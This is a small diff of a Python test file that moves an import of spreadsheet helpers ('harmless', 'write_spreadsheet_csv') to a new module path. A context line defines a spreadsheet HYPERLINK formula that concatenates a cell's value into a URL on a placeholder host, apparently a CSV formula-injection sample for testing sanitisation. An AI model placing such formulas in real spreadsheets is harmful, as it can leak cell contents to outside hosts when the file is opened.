@@ -6,7 +6,7 @@ from pathlib import Path
 import polars as pl
 import pytest
 
-from training.spreadsheet import harmless, write_spreadsheet_csv
+from training.audience.spreadsheet import harmless, write_spreadsheet_csv
 
 LINK = '=HYPERLINK("http://x.example/?"&A1,"offer; now")'
 
